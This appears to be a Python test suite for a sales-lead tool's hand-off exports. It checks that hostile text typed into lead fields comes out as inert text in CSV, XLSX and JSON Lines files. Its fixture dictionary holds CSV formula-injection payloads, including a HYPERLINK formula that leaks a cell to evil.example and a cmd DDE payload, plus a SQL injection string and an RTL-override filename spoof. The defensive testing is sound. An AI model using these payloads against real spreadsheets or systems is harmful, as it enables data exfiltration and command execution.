"""Hostile text typed into LeadDesk reaches sales as plain text, on SQLite and PostgreSQL.

Names, titles, inquiries, call notes, questionnaire answers and verdict reasons carrying
formula starts (ASCII and full-width), RTL overrides, SQL, line separators, control
characters and 1 MB lengths go in through the commands a rep uses and come out of the
hand-off: no spreadsheet cell starts a formula, the JSON Lines give back exactly what was
typed, and nothing crashes. A NUL character is refused everywhere, on both databases alike
(exit 2 naming the field): PostgreSQL text cannot hold one, so no store keeps one.
"""

from __future__ import annotations

import csv
import json
import unicodedata
from collections.abc import Iterator
from pathlib import Path

import pytest

from leaddesk.clock import FixedClock
from leaddesk.definition import versions as definition_versions
from leaddesk.desk import setup_desk
from leaddesk.domain import Role
from tests.cli_in_process import RunCli

HUGE = 1024 * 1024
HOSTILE = {
    "hyperlink": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "plus": "+SUM(1,2)",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(A1:A9)",
    "tab": "\t=1+1",
    "carriage_return": "\r=1+1",
    "newline": "\n=1+1",
    "full_width_equals": "＝1+1",
    "full_width_plus": "＋1+1",
    "full_width_minus": "－1+1",
    "full_width_at": "＠SUM(A1)",
    "space_then_equals": " =1+1",
    "rtl_override": "Ana\u202eexe.txt",
    "sql": "'; DROP TABLE leads; --",
    "quotes": "He said \"hi\", then 'bye'",
    "line_separator": "one\u2028two\u2029three\x85four",
    "control_characters": "bell\x07 escape\x1b[31m form\x0c feed\x1f",
    "huge": "x" * (HUGE - 10) + "=1+1 end",
}
# What a spreadsheet reads as the start of a formula (Excel, LibreOffice, Google Sheets; the
# full-width forms where an East Asian locale converts them).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
PLAIN_PHONE_START = "+"
# A little under what a lead added by hand may hold in a name, title or inquiry (2,000), and
# under what a call note may (longer is refused, exit 2).
NAME_LIMIT = 1_990
# Excel holds at most this many characters in a cell.
XLSX_CELL_LIMIT = 32_767


@pytest.fixture
def team(store_location: str, clock: FixedClock) -> str:
    with setup_desk(store_location, clock=clock) as desk:
        desk.people.add("rep1", Role.QUALIFIER, capacity=100)
        desk.people.add("lead1", Role.TEAM_LEAD)
        with desk.store.transaction() as session:
            definition_versions.ensure_default(session, at=clock())
    return store_location


ANSWERS = {
    "contact_check": "yes",
    "inquiry_reason": "project",
    "pain_level": "major",
    "decision_role": "decision_maker",
    "budget_status": "approved",
    "budget_amount": {"amount": 60000, "currency": "USD"},
    "timeline": "3_months",
    "next_step_agreed": True,
}


def company_typed(name: str, number: int) -> str:
    # Numbered: companies whose names differ only in signs are one account by design.
    return f"{name} {number}"


def hand_off_lead_typed_with(
    db: str, text: str, tmp_path: Path, number: int, run_cli: RunCli
) -> int:
    """A lead whose every free-text field holds ``text``, qualified and given a hand-off.
    (Contact fields, the note and the reason get the last NAME_LIMIT characters of a longer
    text; the answer gets it whole.)"""
    name = text[-NAME_LIMIT:]
    code, out, err = run_cli(
        "add-lead",
        "--as",
        "rep1",
        "--first-name",
        name,
        "--last-name",
        name,
        "--company",
        company_typed(name, number),
        "--title",
        name,
        "--inquiry",
        name,
        "--email",
        f"hostile{number}@evil.example",
        "--phone",
        f"+1212555{number:04d}",
        "--json",
        db=db,
    )
    assert code == 0, err
    lead_id = int(json.loads(out)["lead_id"])
    code, _out, err = run_cli(
        "log-call", str(lead_id), "--as", "rep1", "--outcome", "connected", "--note", name, db=db
    )
    assert code == 0, err
    answers = tmp_path / f"answers{number}.json"
    answers.write_text(json.dumps({**ANSWERS, "pain_example": text}), encoding="utf-8")
    code, _out, err = run_cli(
        "qualify",
        str(lead_id),
        "--as",
        "rep1",
        "--answers",
        str(answers),
        "--verdict",
        "hand_off",
        "--reason",
        name,
        db=db,
    )
    assert code == 0, err
    return lead_id


def as_kept(typed: str) -> set[str]:
    """The forms a contact field may keep of what was typed: without outer spaces, its
    spaces run together, in its compatibility form (intake folds full-width signs to ASCII)."""
    folded = unicodedata.normalize("NFKC", typed)
    return {typed.strip(), folded.strip(), " ".join(typed.split()), " ".join(folded.split())}


def kept_as(got: str, kept: set[str]) -> bool:
    # Names are cut at 128 characters, titles and companies at 256, when a lead is added.
    return bool(got) and any(form.startswith(got) for form in kept)


def is_formula(cell: str, column: str) -> bool:
    if column in ("Phone", "MobilePhone") and cell.startswith(PLAIN_PHONE_START):
        return not cell[1:].isdigit()
    return cell.startswith(FORMULA_STARTS)


def csv_rows(path: Path) -> Iterator[dict[str, str]]:
    limit = csv.field_size_limit()
    csv.field_size_limit(path.stat().st_size + 1)
    try:
        with path.open(encoding="utf-8-sig", newline="") as handle:
            yield from csv.DictReader(handle)
    finally:
        csv.field_size_limit(limit)


@pytest.mark.slow
def test_hostile_text_reaches_sales_as_plain_text_in_every_handoff_file(
    team: str, tmp_path: Path, run_cli: RunCli
) -> None:
    typed = {
        hand_off_lead_typed_with(team, text, tmp_path, number, run_cli): (name, text)
        for number, (name, text) in enumerate(HOSTILE.items())
    }
    out = tmp_path / "handoffs"
    code, stdout, err = run_cli("export", "--as", "rep1", "--xlsx", "--out", str(out), db=team)
    assert code == 0, err
    (folder,) = out.iterdir()
    code, stdout, err = run_cli("verify-handoff", str(folder), db=team)
    assert code == 0, stdout + err

    # JSON Lines: exactly what was typed, records split at "\n" only.
    (jsonl,) = folder.glob("*.jsonl")
    records = [json.loads(line) for line in jsonl.read_text(encoding="utf-8").split("\n") if line]
    assert sorted(r["lead_id"] for r in records) == sorted(typed)
    for record in records:
        name, text = typed[record["lead_id"]]
        number = list(HOSTILE).index(name)
        short = text[-NAME_LIMIT:]
        kept = as_kept(short)
        for got in (
            record["person"]["first_name"],
            record["person"]["last_name"],
            record["person"]["title"],
            record["source"]["inquiry"],
        ):
            assert kept_as(got, kept), (name, got[:40])
        company = as_kept(company_typed(short, number))
        assert kept_as(record["company"]["name"], company), name
        assert record["qualification"]["override_reason"] == short.strip(), name
        assert record["answers"]["pain_example"] == text.strip(), name  # answers are trimmed
        assert short.strip() in [call["note"] for call in record["calls"]["history"]], name

    # CSV: no cell a spreadsheet would run; the text is there, marked as text where needed.
    (csv_file,) = folder.glob("*.csv")
    for row in csv_rows(csv_file):
        name, text = typed[int(row["LeadDesk Lead ID"])]
        kept = as_kept(text[-NAME_LIMIT:])
        for column, cell in row.items():
            assert not is_formula(cell, column), (name, column, cell[:40])
        # A leading ' marks a cell that would start a formula as text.
        for column in ("Title", "LastName"):
            cell = row[column]
            marked = cell.startswith("'") and kept_as(cell[1:], kept)
            assert kept_as(cell, kept) or marked, (name, column)

    # XLSX: every cell a string cell (never a formula), inert, and within Excel's limit.
    from openpyxl import load_workbook

    (xlsx,) = folder.glob("*.xlsx")
    book = load_workbook(xlsx)
    sheet = book.worksheets[0]
    header = [cell.value for cell in sheet[1]]
    for row in sheet.iter_rows(min_row=2):
        for column, cell in zip(header, row, strict=True):
            assert cell.data_type != "f", (column, cell.value)
            if isinstance(cell.value, str):
                assert not is_formula(cell.value, str(column)), (column, cell.value[:40])
                assert len(cell.value) <= XLSX_CELL_LIMIT, column


def test_a_megabyte_name_is_refused_by_name_not_crashed_on(team: str, run_cli: RunCli) -> None:
    code, _out, err = run_cli(
        "add-lead", "--as", "rep1", "--first-name", "x" * HUGE, "--email", "h@x.example", db=team
    )
    assert code == 2, err
    assert "first name" in err and "This is a bug" not in err


@pytest.mark.parametrize(
    "text",
    [
        '"',
        "*",
        "NEAR(a b)",
        "a OR",
        "^x",
        "-x",
        "col:x",
        "'; DROP TABLE leads; --",
        "%_\\",
        "\u202e",
        "＝1",
        "x" * HUGE,
        "#99999999999999999999999",
        "#-1",
        "+",
    ],
)
def test_search_with_hostile_text_answers_without_crashing(
    team: str, text: str, run_cli: RunCli
) -> None:
    code, _out, err = run_cli("search", text, "--as", "rep1", db=team)
    assert code in (0, 2), err
    assert "This is a bug" not in err


NUL_ENTRIES = {
    "first name": ["add-lead", "--as", "rep1", "--first-name", "Ada\x00", "--email", "a@x.example"],
    "company": ["add-lead", "--as", "rep1", "--company", "Acme\x00Ltd", "--email", "b@x.example"],
    "search": ["search", "Ada\x00", "--as", "rep1"],
}


@pytest.mark.parametrize("field", list(NUL_ENTRIES))
def test_a_nul_character_is_refused_by_name_on_every_database(
    team: str, field: str, run_cli: RunCli
) -> None:
    code, _out, err = run_cli(*NUL_ENTRIES[field], db=team)
    assert code == 2, err
    assert "NUL" in err and "This is a bug" not in err
    assert field in err.casefold() or field.replace(" ", "_") in err.casefold(), err


def test_a_nul_in_a_note_or_an_answer_is_refused_and_nothing_is_kept(
    team: str, tmp_path: Path, run_cli: RunCli
) -> None:
    code, out, err = run_cli(
        "add-lead",
        "--as",
        "rep1",
        "--first-name",
        "Ada",
        "--email",
        "c@x.example",
        "--json",
        db=team,
    )
    assert code == 0, err
    lead = json.loads(out)["lead_id"]
    code, _out, err = run_cli(
        "log-call", str(lead), "--as", "rep1", "--outcome", "connected", "--note", "a\x00b", db=team
    )
    assert code == 2 and "NUL" in err, err
    answers = tmp_path / "answers.json"
    answers.write_text(json.dumps({**ANSWERS, "pain_example": "a\x00b"}), encoding="utf-8")
    code, _out, err = run_cli(
        "qualify", str(lead), "--as", "rep1", "--answers", str(answers), db=team
    )
    assert code == 2 and "NUL" in err, err
    code, out, err = run_cli("lead", str(lead), "--as", "rep1", "--json", db=team)
    assert code == 0, err
    assert "\\u0000" not in out


def test_a_workbook_cell_holds_no_control_character_and_fits_excel() -> None:
    from leaddesk.handoff.cells import neutralise
    from leaddesk.handoff.render import sheet_text

    # Replaced, not removed: taking the \x01 away would uncover the formula behind it.
    assert sheet_text(neutralise("\x01=1+1")) == "\ufffd=1+1"
    assert sheet_text("tab\tand\nlines\r stay") == "tab\tand\nlines\r stay"
    long = sheet_text(neutralise("=" + "x" * HUGE))
    assert len(long) == XLSX_CELL_LIMIT and long.startswith("'=") and long.endswith("…")
